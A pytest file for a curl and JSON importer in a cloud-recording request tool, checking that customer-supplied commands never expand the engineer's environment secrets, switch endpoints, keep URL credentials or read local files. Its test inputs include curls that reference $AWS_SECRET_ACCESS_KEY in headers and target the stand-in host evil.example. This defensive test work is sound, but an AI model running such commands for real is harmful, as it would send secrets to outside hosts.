"""What a customer sent is data: no variable is filled in from here, the endpoint never
changes, user info in a URL is never kept, and credentials stay only when the user says so."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from rec_tui.formats import importers
from rec_tui.formats.documents import draft_from_import, open_document, use_customer_endpoint
from rec_tui.request.draft import Draft
from rec_tui.store.secrets import MemoryStore

APP_ID = "0123456789abcdef0123456789abcdef"
START = f"/v1/apps/{APP_ID}/cloud_recording/resourceid/RID1/mode/mix/start"
BODY: dict[str, Any] = {"cname": "room", "uid": "527841", "clientRequest": {"token": "t"}}
ENGINEER_SECRETS = {
    "AGORA_CUSTOMER_ID": "engineer-id-0001",
    "AGORA_CUSTOMER_SECRET": "engineer-secret-0002",
    "AWS_SECRET_ACCESS_KEY": "engineer-aws-0003",
    "AGORA_APP_ID": "engineer-app-0004",
}


def everything_about(result: importers.ImportResult, draft: Draft) -> str:
    """Every text the import produced: result fields, notices, the draft and its session."""
    fields = {name: getattr(result, name) for name in result._fields if name != "credentials"}
    return json.dumps([fields, draft.body, draft.session_values()], default=str)


@pytest.fixture
def engineer_env(monkeypatch: pytest.MonkeyPatch) -> None:
    for name, value in ENGINEER_SECRETS.items():
        monkeypatch.setenv(name, value)


def test_variables_in_a_curl_are_never_filled_in_from_the_engineers_environment(
    engineer_env: None,
) -> None:
    body = {
        "cname": "${AGORA_APP_ID}",
        "uid": "1",
        "clientRequest": {
            "storageConfig": {"secretKey": "$AWS_SECRET_ACCESS_KEY", "accessKey": "ak"},
        },
    }
    command = (
        "curl -X POST 'https://api.agora.io/v1/apps/$AGORA_APP_ID/cloud_recording/"
        "resourceid/${RID}/mode/mix/start' "
        '-u "$AGORA_CUSTOMER_ID:$AGORA_CUSTOMER_SECRET" '
        f"-H 'X-Trace: $AWS_SECRET_ACCESS_KEY' -d '{json.dumps(body)}'"
    )
    result = importers.import_text(command)
    draft = draft_from_import(result)
    shown = everything_about(result, draft)
    for value in ENGINEER_SECRETS.values():
        assert value not in shown
    assert result.credentials is None
    assert result.body["clientRequest"]["storageConfig"]["secretKey"] == "$AWS_SECRET_ACCESS_KEY"
    assert result.body["cname"] == "${AGORA_APP_ID}"
    assert result.customer_app_id is None and result.resource_id is None
    notices = "\n".join(result.notices)
    assert "The customer's curl refers to $AGORA_CUSTOMER_SECRET (in the curl -u)" in notices
    assert "refers to $AWS_SECRET_ACCESS_KEY (in a header, clientRequest." in notices
    assert "refers to $AGORA_APP_ID (in the URL, cname)" in notices


def test_a_json_body_with_variables_is_kept_as_written(engineer_env: None) -> None:
    text = json.dumps(
        {"cname": "c", "uid": "1", "clientRequest": {"token": "${AGORA_CUSTOMER_SECRET}"}}
    )
    result = importers.import_text(text)
    assert result.body["clientRequest"]["token"] == "${AGORA_CUSTOMER_SECRET}"
    assert any("JSON body refers to $AGORA_CUSTOMER_SECRET" in n for n in result.notices)


def test_a_secret_containing_a_dollar_is_not_quoted_in_a_notice() -> None:
    text = json.dumps({"cname": "c", "uid": "1", "clientRequest": {"token": "abc$SECRETPART"}})
    result = importers.import_text(text)
    assert not any("SECRETPART" in notice for notice in result.notices)
    assert result.body["clientRequest"]["token"] == "abc$SECRETPART"


@pytest.mark.parametrize(("endpoint", "app_id"), [("sandbox", ""), ("global-cn", "mine")])
def test_importing_never_changes_where_the_draft_sends(endpoint: str, app_id: str) -> None:
    draft = Draft(endpoint=endpoint, app_id=app_id)
    command = f"curl https://api-eu-west-1.agora.io{START} -d '{json.dumps(BODY)}'"
    result = importers.import_text(command)
    draft_from_import(result, draft)
    assert (draft.endpoint, draft.app_id) == (endpoint, app_id)
    assert draft.body == BODY and draft.mode == "mix"
    assert (result.customer_endpoint, result.customer_app_id) == ("region:api-eu-west-1", APP_ID)
    assert draft.original is not None
    assert (draft.original.customer_endpoint, draft.original.customer_app_id) == (
        "region:api-eu-west-1",
        APP_ID,
    )
    assert (
        f"Customer's endpoint: api-eu-west-1.agora.io, App ID {APP_ID} (for information: "
        "importing never changes where requests go)."
    ) in result.notices
    # Only an explicit step takes them, and it can be undone.
    assert use_customer_endpoint(draft, result)
    assert (draft.endpoint, draft.app_id) == ("region:api-eu-west-1", APP_ID)
    draft.undo()
    assert (draft.endpoint, draft.app_id) == (endpoint, app_id)


def test_opening_a_customers_file_stays_on_the_sandbox(tmp_path: Path) -> None:
    curl_file = tmp_path / "ticket.sh"
    curl_file.write_text(f"curl https://evil.example:8443{START} -d '{json.dumps(BODY)}'")
    opened = open_document(str(curl_file), MemoryStore())
    assert (opened.draft.endpoint, opened.draft.app_id) == ("sandbox", "")
    assert any("customer's endpoint: evil.example:8443" in n.lower() for n in opened.notices)


@pytest.mark.parametrize(
    "url",
    [
        f"https://url-id:url-PASSWORD-77@api.agora.io{START}",
        f"https://url-id:url-PASSWORD-77@evil.example:8443{START}",
    ],
)
def test_user_info_in_a_url_never_survives(url: str) -> None:
    result = importers.import_text(f"curl '{url}' -d '{json.dumps(BODY)}'")
    assert result.credentials is not None
    assert result.credentials.values() == ("url-id", "url-PASSWORD-77")
    assert result.credentials.source == "URL"
    importers.settle_credentials(result, MemoryStore(), agreed=False)
    draft = draft_from_import(result)
    use_customer_endpoint(draft, result)
    shown = everything_about(result, draft)
    assert "url-PASSWORD-77" not in shown and "url-id" not in shown
    assert draft.endpoint in ("global", "https://evil.example:8443")


def test_credentials_are_kept_only_when_the_user_says_so() -> None:
    command = f"curl https://api.agora.io{START} -u keep-id:keep-secret -d '{json.dumps(BODY)}'"
    store = MemoryStore()
    result = importers.import_text(command)
    importers.settle_credentials(result, store, agreed=False)
    assert store.entries == {} and result.credentials is None
    result = importers.import_text(command)
    importers.settle_credentials(result, store, agreed=True)
    assert set(store.entries.values()) == {"keep-id", "keep-secret"}


def test_curl_data_from_a_file_is_not_read(tmp_path: Path) -> None:
    local = tmp_path / "local.json"
    local.write_text(json.dumps({**BODY, "cname": "LOCAL-FILE-CONTENT"}))
    with pytest.raises(importers.ImportProblem) as caught:
        importers.import_text(f"curl https://api.agora.io{START} -d @{local}")
    assert "file on the customer's machine" in caught.value.message
    assert "LOCAL-FILE-CONTENT" not in caught.value.message
